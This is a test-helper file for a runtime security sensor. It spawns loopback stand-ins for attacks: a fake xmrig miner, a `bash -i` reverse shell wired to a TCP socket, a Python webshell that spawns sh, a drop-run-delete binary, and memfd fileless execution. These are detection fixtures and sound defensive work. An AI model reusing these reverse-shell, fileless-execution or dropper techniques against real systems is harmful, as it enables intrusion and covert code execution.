/**
 * Real processes on loopback for the runtime sensor tests (test-only: src/ never runs programs). Each
 * stand-in imitates the shape of an attack and does nothing harmful: the "miner" is a C program named
 * xmrig that sends one Stratum login to a listener the test owns and then sleeps; the "reverse shell"
 * is `bash -i` whose stdio is a TCP connection to the test's own listener; the "webshell" is a Python
 * HTTP server whose GET handler starts `sh -c 'sleep 4'`; the dropped binary is a copy of /bin/sleep;
 * the memfd payload is /bin/sleep loaded into an anonymous memory file and executed from there.
 */
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import type { ChildProcess } from 'node:child_process';
import { chmodSync, copyFileSync, mkdtempSync, unlinkSync, writeFileSync } from 'node:fs';
import { createServer, connect } from 'node:net';
import type { Server, Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

export function workDir(prefix = 'bulwark-rt-'): string {
  return mkdtempSync(join(tmpdir(), prefix));
}

/** The real Python interpreter (not a pyenv shim, which is a bash script). */
export function python(): string | undefined {
  const r = spawnSync('python3', ['-c', 'import sys; print(sys.executable)'], { encoding: 'utf8' });
  return r.status === 0 ? r.stdout.trim() : undefined;
}

export function hasCompiler(): boolean {
  return spawnSync('gcc', ['--version'], { stdio: 'ignore' }).status === 0;
}

const FAKE_MINER_C = String.raw`
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
/* A stand-in for XMRig: parses -o stratum+tcp://HOST:PORT, connects, sends one Stratum login, sleeps. */
int main(int argc, char **argv) {
  char host[64] = "127.0.0.1"; int port = 3333;
  for (int i = 1; i + 1 < argc; i++) if (strcmp(argv[i], "-o") == 0) {
    const char *u = strstr(argv[i + 1], "://"); u = u ? u + 3 : argv[i + 1];
    const char *c = strrchr(u, ':'); if (c && (size_t)(c - u) < sizeof host) { memcpy(host, u, c - u); host[c - u] = 0; port = atoi(c + 1); }
  }
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a; memset(&a, 0, sizeof a); a.sin_family = AF_INET; a.sin_port = htons(port); inet_pton(AF_INET, host, &a.sin_addr);
  if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return 1;
  const char *login = "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"4BULWARKTESTWALLET\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0 (stand-in)\",\"algo\":[\"rx/0\"]}}\n";
  if (write(s, login, strlen(login)) < 0) return 1;
  char buf[1024]; (void)read(s, buf, sizeof buf);
  sleep(30);
  return 0;
}
`;

/** Compile the stand-in miner as `<dir>/xmrig`. */
export function buildFakeMiner(dir: string): string {
  const src = join(dir, 'xmrig.c');
  writeFileSync(src, FAKE_MINER_C);
  const out = join(dir, 'xmrig');
  execFileSync('gcc', ['-O1', '-o', out, src], { stdio: 'ignore' });
  return out;
}

export interface StratumPool {
  readonly server: Server;
  readonly host: string;
  readonly port: number;
  /** Lines the pool received (the miner's login). */
  readonly received: string[];
}

/** A loopback listener that answers a Stratum login with a job, on 127.0.0.1:3333 (or another loopback address when taken). */
export async function stratumPool(): Promise<StratumPool> {
  const received: string[] = [];
  const server = createServer((sock) => {
    let buf = '';
    sock.on('data', (d) => {
      buf += d.toString('utf8');
      let i: number;
      while ((i = buf.indexOf('\n')) >= 0) {
        received.push(buf.slice(0, i));
        buf = buf.slice(i + 1);
        sock.write('{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"0","job":{"blob":"00","job_id":"1","target":"ffff","algo":"rx/0"},"status":"OK"}}\n');
      }
    });
    sock.on('error', () => sock.destroy());
  });
  for (const host of ['127.0.0.1', '127.0.0.2', '127.0.0.3']) {
    const ok = await new Promise<boolean>((resolve) => {
      server.once('error', () => resolve(false));
      server.listen(3333, host, () => resolve(true));
    });
    if (ok) return { server, host, port: 3333, received };
  }
  throw new Error('no loopback address has port 3333 free');
}

export function startMiner(binary: string, pool: StratumPool): ChildProcess {
  return spawn(binary, ['-o', `stratum+tcp://${pool.host}:${pool.port}`, '-u', '4BULWARKTESTWALLET', '-p', 'x', '-a', 'rx/0', '--donate-level', '1'], { stdio: 'ignore' });
}

/** `bash -i` whose stdin, stdout and stderr are one TCP connection to a listener of ours. */
export async function reverseShell(): Promise<{ child: ChildProcess; listener: Server; client: Socket; accepted: Promise<Socket> }> {
  let acceptedResolve: (s: Socket) => void = () => {};
  const accepted = new Promise<Socket>((r) => (acceptedResolve = r));
  const listener = createServer((s) => {
    s.on('error', () => s.destroy());
    acceptedResolve(s);
  });
  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', () => r()));
  const port = (listener.address() as { port: number }).port;
  const client = connect(port, '127.0.0.1');
  await new Promise<void>((r, j) => {
    client.once('connect', () => r());
    client.once('error', j);
  });
  const child = spawn('bash', ['-i'], { stdio: [client, client, client] });
  return { child, listener, client, accepted };
}

const WEB_SERVER_PY = `
import http.server, subprocess
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        if self.path == '/shell':
            subprocess.Popen(['sh', '-c', 'sleep 4'])
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b'ok')
    def log_message(self, *a):
        pass
s = http.server.ThreadingHTTPServer(('127.0.0.1', 0), H)
print(s.server_address[1], flush=True)
s.serve_forever()
`;

/** A Python HTTP server (stdlib) on loopback; GET /shell makes it spawn `sh`. Resolves with its port. */
export async function pythonWebServer(py: string, dir: string, spawnsShell = true): Promise<{ child: ChildProcess; port: number }> {
  const script = join(dir, spawnsShell ? 'webapp.py' : 'static_server.py');
  writeFileSync(script, spawnsShell ? WEB_SERVER_PY : WEB_SERVER_PY.replace(/ {8}if self\.path == '\/shell':\n {12}subprocess\.Popen\(\['sh', '-c', 'sleep 4'\]\)\n/, ''));
  const child = spawn(py, [script], { stdio: ['ignore', 'pipe', 'ignore'] });
  const port = await new Promise<number>((resolve, reject) => {
    child.stdout?.once('data', (d: Buffer) => resolve(Number(d.toString().trim())));
    child.once('exit', (c) => reject(new Error(`web server exited ${c}`)));
  });
  return { child, port };
}

/** A copy of /bin/sleep under `dir`, started, then deleted. */
export function dropAndExecute(dir: string): ChildProcess {
  const path = join(dir, 'payload');
  copyFileSync('/bin/sleep', path);
  chmodSync(path, 0o755);
  const child = spawn(path, ['30'], { stdio: 'ignore' });
  setTimeout(() => {
    try {
      unlinkSync(path);
    } catch {
      /* already gone */
    }
  }, 50);
  return child;
}

/** Python loads /bin/sleep into a memfd and execs it from there (fileless execution). */
export function memfdExec(py: string): ChildProcess {
  const code = "import os\nfd = os.memfd_create('payload')\nos.write(fd, open('/bin/sleep', 'rb').read())\nos.execv('/proc/self/fd/%d' % fd, ['payload', '30'])\n";
  return spawn(py, ['-c', code], { stdio: 'ignore' });
}

export function kill(c: ChildProcess | undefined): void {
  if (c?.pid !== undefined && c.exitCode === null) {
    try {
      c.kill('SIGKILL');
    } catch {
      /* gone */
    }
  }
}

/** A pure-Python wheel built in `dir` (pip installs it with --no-index: no network here). */
export function buildWheel(py: string, dir: string): string {
  const script = `
import base64, hashlib, os, sys, zipfile
out = sys.argv[1]
files = {
  'bulwark_demo/__init__.py': b'VALUE = 1\\n',
  'bulwark_demo-0.1.dist-info/METADATA': b'Metadata-Version: 2.1\\nName: bulwark-demo\\nVersion: 0.1\\n',
  'bulwark_demo-0.1.dist-info/WHEEL': b'Wheel-Version: 1.0\\nGenerator: bulwark-test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n',
}
record = ''
for name, data in files.items():
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()
    record += f'{name},sha256={digest},{len(data)}\\n'
record += 'bulwark_demo-0.1.dist-info/RECORD,,\\n'
with zipfile.ZipFile(out, 'w') as z:
    for name, data in files.items():
        z.writestr(name, data)
    z.writestr('bulwark_demo-0.1.dist-info/RECORD', record)
`;
  const out = join(dir, 'bulwark_demo-0.1-py3-none-any.whl');
  execFileSync(py, ['-c', script, out], { stdio: 'ignore' });
  return out;
}
